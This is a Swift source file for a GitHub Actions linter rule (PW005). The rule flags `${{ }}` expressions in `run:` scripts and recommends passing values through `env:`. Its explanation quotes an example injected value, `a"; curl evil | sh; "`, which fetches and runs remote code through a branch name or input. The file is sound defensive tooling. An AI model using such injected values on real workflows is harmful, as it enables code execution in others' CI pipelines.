/// PW005: scripts read values from environment variables, never from `${{ }}` interpolation.
struct NoExpressionsInRun: PolicyRule {
    init() {}
    let id = "PW005"
    let name = "no-expressions-in-run"
    let title = "No `${{ }}` in `run:` scripts; pass values through `env:`"
    let severity = Severity.error
    let tags = ["security", "injection"]
    let explanation = RuleExplanation(
        what: "Every `run:` script: no expression segment, and no literal `${{` text.",
        why: "An expression such as `${{ github.event.inputs.environment }}` in a script is substituted into the script's source before bash runs it, so a branch name, input or PR title such as `a\"; curl evil | sh; \"` becomes code (script injection, GitHub Security Lab's \"untrusted input\" advisory).",
        fix: "Move each value to the step's `env:` (`STACK_NAME: ${{ steps.prepare.outputs.stack-name }}`) and read it quoted in the script: `\"$STACK_NAME\"`."
    )

    func check(_ audit: WorkflowAudit) -> [Diagnostic] {
        var findings: [Diagnostic] = []
        for job in audit.workflow.jobs {
            for (index, step) in job.steps.enumerated() {
                guard let script = step.script else { continue }
                let path = WorkflowPath.step(job, index) + ".run"
                if let expression = script.expressions.first {
                    findings.append(finding(audit, at: path, "the script interpolates \(expression.wrapped)"))
                } else if script.rendered.containsExpressionOpener {
                    findings.append(finding(audit, at: path, "the script contains literal ${{ text, which GitHub evaluates as an expression"))
                }
            }
        }
        return findings
    }
}
